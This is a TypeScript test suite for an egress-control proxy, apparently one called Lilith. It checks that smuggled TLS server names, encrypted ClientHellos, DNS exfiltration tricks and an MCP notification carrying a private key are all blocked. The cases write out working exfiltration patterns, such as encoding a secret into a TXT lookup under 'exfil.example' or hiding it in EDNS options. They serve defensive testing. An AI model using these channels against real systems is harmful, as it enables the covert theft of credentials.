// Adversarial corpus, second part (issue 14): TLS hellos naming several servers or
// hiding the name (ECH), DNS queries carrying data (EDNS options, extra records,
// TXT lookups of encoded secrets, compression loops, dotted labels), and MCP
// server notifications on an event stream carrying a secret. Each case runs
// against a real peer (Node's TLS server, a UDP resolver, the MCP SDK server)
// and records the policy's answer, what reached the peer, and the audit event.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import dgram from 'node:dgram';
import { startHarness, loopback, rawExchange } from './helpers.js';
import { startDnsServer, startTlsUpstream } from './upstreams.js';
import { startMcpServer } from './mcp-server.js';
import { buildQuery } from '../../enforcer/dataplane/dns/wire.js';

/** A ClientHello record with the given extensions (type, data). */
function clientHello(extensions: Array<[number, Buffer]>): Buffer {
  const ext = Buffer.concat(
    extensions.map(([type, data]) => {
      const h = Buffer.alloc(4);
      h.writeUInt16BE(type, 0);
      h.writeUInt16BE(data.length, 2);
      return Buffer.concat([h, data]);
    }),
  );
  const extLen = Buffer.alloc(2);
  extLen.writeUInt16BE(ext.length);
  const body = Buffer.concat([
    Buffer.from([0x03, 0x03]),
    Buffer.alloc(32, 7), // random
    Buffer.from([0]), // session id
    Buffer.from([0, 2, 0x13, 0x01]), // one cipher suite
    Buffer.from([1, 0]), // null compression
    extLen,
    ext,
  ]);
  const hs = Buffer.concat([Buffer.from([1, body.length >> 16, (body.length >> 8) & 0xff, body.length & 0xff]), body]);
  const rec = Buffer.from([0x16, 0x03, 0x01, hs.length >> 8, hs.length & 0xff]);
  return Buffer.concat([rec, hs]);
}

/** server_name extension data with these (type, name) entries. */
function serverNames(names: Array<[number, string]>): Buffer {
  const list = Buffer.concat(
    names.map(([type, n]) => Buffer.concat([Buffer.from([type, n.length >> 8, n.length & 0xff]), Buffer.from(n, 'latin1')])),
  );
  return Buffer.concat([Buffer.from([list.length >> 8, list.length & 0xff]), list]);
}

test('TLS: several server names and encrypted ClientHellos are refused before any byte reaches the server', async () => {
  const tlsUp = await startTlsUpstream();
  const h = await startHarness({ destination: loopback(tlsUp.port) });
  try {
    const cases: Array<[string, Buffer, RegExp]> = [
      [
        'two host_name entries (allowed first, other second)',
        clientHello([
          [
            0,
            serverNames([
              [0, 'localhost'],
              [0, 'evil.example'],
            ]),
          ],
        ]),
        /more than one server name/,
      ],
      ['a server name of another type', clientHello([[0, serverNames([[1, 'localhost']])]]), /server name type 1/],
      [
        'ECH (outer SNI allowed, inner name encrypted)',
        clientHello([
          [0, serverNames([[0, 'localhost']])],
          [0xfe0d, Buffer.from('0000010001012000' + '00'.repeat(32) + '0010' + 'ab'.repeat(16), 'hex')],
        ]),
        /encrypted_client_hello/,
      ],
      [
        'ESNI draft extension',
        clientHello([
          [0, serverNames([[0, 'localhost']])],
          [0xffce, Buffer.alloc(8, 1)],
        ]),
        /encrypted_client_hello/,
      ],
    ];
    const table: string[] = [];
    for (const [name, bytes, why] of cases) {
      const from = (await h.events()).length;
      const r = await rawExchange(h.proxy.port, [bytes], 2000);
      assert.ok(r.reset || (r.closed && r.data === ''), `${name}: reset`);
      const ev = (await h.events()).slice(from).find((e) => e.protocol === 'tls');
      assert.ok(ev && ev.decision === 'deny' && why.test(ev.reason ?? ''), `${name}: ${JSON.stringify(ev)}`);
      table.push(`${name}: deny (${ev.reason}); server saw nothing`);
    }
    assert.equal(tlsUp.connections(), 0, 'no refused hello reached the TLS server');
    // The same hello with one allowed name goes through (the refusals are about the shape).
    const ok = await rawExchange(h.proxy.port, [clientHello([[0, serverNames([[0, 'localhost']])]])], 1500);
    assert.ok(ok.data.length > 0 || ok.closed, 'one server name: relayed, the server answers (an alert)');
    assert.equal(tlsUp.connections(), 1);
    process.stdout.write(`# ${table.join('\n# ')}\n`);
    assert.equal(await h.settled(), 0);
  } finally {
    await h.close();
    await tlsUp.close();
  }
});

function dnsExchange(port: number, msg: Buffer): Promise<Buffer | null> {
  return new Promise((resolve) => {
    const s = dgram.createSocket('udp4');
    const t = setTimeout(() => {
      s.close();
      resolve(null);
    }, 2000);
    s.on('message', (m) => {
      clearTimeout(t);
      s.close();
      resolve(m);
    });
    s.send(msg, port, '127.0.0.1');
  });
}

/** `query` with an additional-section record appended (arcount bumped). */
function withAdditional(query: Buffer, record: Buffer): Buffer {
  const out = Buffer.concat([query, record]);
  out.writeUInt16BE(out.readUInt16BE(10) + 1, 10);
  return out;
}

/** An OPT record: payload size, DO bit, options (code, data). */
function opt(size: number, options: Array<[number, Buffer]> = []): Buffer {
  const data = Buffer.concat(
    options.map(([code, d]) => Buffer.concat([Buffer.from([code >> 8, code & 0xff, d.length >> 8, d.length & 0xff]), d])),
  );
  const head = Buffer.from([0, 0, 41, size >> 8, size & 0xff, 0, 0, 0x80, 0, data.length >> 8, data.length & 0xff]);
  return Buffer.concat([head, data]);
}

test('DNS: EDNS options, extra records, TXT exfiltration, compression loops and dotted labels never reach the resolver', async () => {
  const resolver = await startDnsServer({ 'api.github.com': '140.82.112.5' });
  const h = await startHarness({ dns: true, dnsUpstream: `127.0.0.1:${resolver.port}`, destination: loopback(1) });
  try {
    const port = h.dp.dnsAddress!.port;
    const secret = Buffer.from('AKIAIOSFODNN7EXAMPLE').toString('hex');
    // EDNS on an allowed query: answered, but the resolver gets a bare OPT (no options).
    const edns = withAdditional(buildQuery(0x0101, 'api.github.com', 1), opt(4096, [[65001, Buffer.from(secret)]]));
    const ans = await dnsExchange(port, edns);
    assert.ok(ans && (ans.readUInt16BE(2) & 0xf) === 0 && ans.readUInt16BE(0) === 0x0101, 'answered NOERROR with the client id');
    const got = resolver.raw.at(-1)!;
    assert.ok(!got.includes(Buffer.from(secret)), 'the EDNS option never reached the resolver');
    assert.equal(got.readUInt16BE(10), 1, 'one OPT record');
    assert.deepEqual(
      [...got.subarray(-11)],
      [0, 0, 41, 1232 >> 8, 1232 & 0xff, 0, 0, 0x80, 0, 0, 0],
      'OPT: size capped, DO kept, no options',
    );
    const forwarded = resolver.raw.length;
    const refused: Array<[string, Buffer, number | null]> = [
      ['TXT for an encoded secret under a non-allowed name', buildQuery(0x0202, `${secret}.exfil.example`, 16), 3],
      ['TXT on an allowed name', buildQuery(0x0203, 'api.github.com', 16), 3],
      [
        'an extra TXT record in the additional section',
        withAdditional(
          buildQuery(0x0204, 'api.github.com', 1),
          Buffer.concat([Buffer.from([0, 0, 16, 0, 1, 0, 0, 0, 0, 0, secret.length + 1, secret.length]), Buffer.from(secret)]),
        ),
        1,
      ],
      ['two OPT records', withAdditional(withAdditional(buildQuery(0x0205, 'api.github.com', 1), opt(512)), opt(512)), 1],
      [
        'EDNS version 1',
        (() => {
          const q = withAdditional(buildQuery(0x0206, 'api.github.com', 1), opt(512));
          q[q.length - 5] = 1;
          return q;
        })(),
        1,
      ],
      ['compression loop in the question', Buffer.from([0x02, 0x07, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0, 0xc0, 0x0c, 0, 1, 0, 1]), 1],
      [
        'a label containing a dot (decided text ≠ wire name)',
        Buffer.concat([
          Buffer.from([0x02, 0x08, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]),
          Buffer.from([10]),
          Buffer.from('api.github'),
          Buffer.from([3]),
          Buffer.from('com'),
          Buffer.from([0, 0, 1, 0, 1]),
        ]),
        1,
      ],
      ['bytes after the query', Buffer.concat([buildQuery(0x0209, 'api.github.com', 1), Buffer.from('trailing')]), 1],
    ];
    const table: string[] = [];
    for (const [name, msg, rcode] of refused) {
      const r = await dnsExchange(port, msg);
      assert.ok(r, `${name}: answered`);
      assert.equal(r.readUInt16BE(2) & 0xf, rcode, `${name}: rcode`);
      table.push(`${name}: rcode ${rcode}; resolver saw nothing`);
    }
    assert.equal(resolver.raw.length, forwarded, 'no refused query reached the resolver');
    const dns = (await h.events()).filter((e) => e.protocol === 'dns').map((e) => [e.resource, e.decision]);
    assert.deepEqual(dns, [
      ['Host::"api.github.com"', 'allow'],
      [`Host::"${secret.toLowerCase()}.exfil.example"`, 'deny'],
      ['Host::"api.github.com"', 'deny'],
    ]);
    process.stdout.write(`# ${table.join('\n# ')}\n`);
  } finally {
    await h.close();
    await resolver.close();
  }
});

const KEY = '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk=\n-----END OPENSSH PRIVATE KEY-----';

test('MCP: a server notification on the event stream carrying a secret taints the agent; egress is then denied', async () => {
  const mcp = await startMcpServer('files', {
    read_file: { args: ['path'], impl: () => 'nothing to see', notify: KEY },
    http_post: { args: ['url'], impl: () => 'posted' },
  });
  const h = await startHarness({
    destination: loopback(mcp.port),
    tweaks: {
      config: (c) => {
        c.upstreams = { files: { address: `127.0.0.1:${mcp.port}`, kind: 'mcp' } };
      },
    },
  });
  const post = (body: unknown, extra = '') => {
    const b = Buffer.from(JSON.stringify(body));
    return rawExchange(
      h.proxy.port,
      [
        Buffer.concat([
          Buffer.from(
            `POST /mcp HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nAccept: application/json, text/event-stream\r\nContent-Length: ${b.length}\r\nConnection: close${extra}\r\n\r\n`,
          ),
          b,
        ]),
      ],
      3000,
    );
  };
  try {
    const init = await post({
      jsonrpc: '2.0',
      id: 0,
      method: 'initialize',
      params: { protocolVersion: '2025-03-26', capabilities: {}, clientInfo: { name: 't', version: '1' } },
    });
    const sid = /mcp-session-id: ([^\r\n]+)/i.exec(init.data)?.[1];
    assert.ok(sid, init.data.slice(0, 200));
    const session = `\r\nMcp-Session-Id: ${sid}\r\nMcp-Protocol-Version: 2025-03-26`;
    const call = (id: number, name: string, args: Record<string, string>) =>
      post({ jsonrpc: '2.0', id, method: 'tools/call', params: { name, arguments: args } }, session);
    let r = await call(1, 'http_post', { url: 'https://example.org/' });
    assert.match(r.data, /posted/, 'clean: egress permitted');
    r = await call(2, 'read_file', { path: '/workspace/notes' });
    assert.match(
      r.data,
      /notifications\/message[\s\S]*BEGIN OPENSSH PRIVATE KEY[\s\S]*nothing to see/,
      'the notification streamed to the client',
    );
    const calls = mcp.calls.length;
    r = await call(3, 'http_post', { url: 'https://example.org/' });
    assert.match(r.data, /Denied by Lilith policy/);
    assert.equal(mcp.calls.length, calls, 'the denied egress never reached the server');
    const ev = (await h.events()).filter((e) => e.action === 'Action::"http_post"');
    assert.deepEqual(
      ev.map((e) => [e.decision, e.taint_before]),
      [
        ['allow', '0x0000000000000000'],
        ['deny', '0x0000000000000008'], // CREDENTIALS, from the notification's private key
      ],
    );
    assert.ok(ev[1].policies.includes('taint-blocks-egress'), JSON.stringify(ev[1].policies));
  } finally {
    await h.close();
    await mcp.close();
  }
});
